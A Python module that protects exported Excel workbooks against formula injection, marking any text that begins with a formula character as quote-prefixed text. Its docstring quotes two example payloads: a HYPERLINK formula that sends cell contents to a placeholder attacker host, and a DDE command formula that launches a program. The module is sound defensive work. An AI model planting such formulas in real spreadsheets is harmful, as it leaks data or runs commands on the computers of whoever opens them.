"""Saving a workbook we built so that no text in it can run as a formula.

Every builder in ``exports/`` ends with :func:`workbook_bytes`. openpyxl stores any string that
starts with ``=`` as a formula, so a case title such as ``=HYPERLINK("http://evil.example/?c="&A2)``
or ``=cmd|' /C calc'!A0`` would run in a judge's Excel. Here every such cell becomes a text cell
again, and every text that starts with one of the characters spreadsheets read as the start of a
formula (``= + - @``, tab, carriage return — OWASP's list) is marked quote-prefixed: Excel and
LibreOffice show it as typed and keep it text when someone edits it, and the value itself is
unchanged, so a workbook read back (a write-up, a score sheet) gives exactly what was written.
Only the formula cells a builder names in ``formulas`` (its own ``=SUM(...)``) stay formulas.
"""
from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(cell: Cell) -> None:
    """Make ``cell`` hold its text as text if a spreadsheet could read it as a formula."""
    value = cell.value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True


def workbook_bytes(workbook: Workbook, *, formulas: Iterable[Cell] = ()) -> bytes:
    """The .xlsx bytes of ``workbook`` with every text cell safe (see the module docstring);
    the cells in ``formulas`` are the builder's own formulas and are left as they are."""
    kept = {id(cell) for cell in formulas}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if id(cell) not in kept:
                    neutralise_cell(cell)
    output = BytesIO()
    workbook.save(output)
    return output.getvalue()
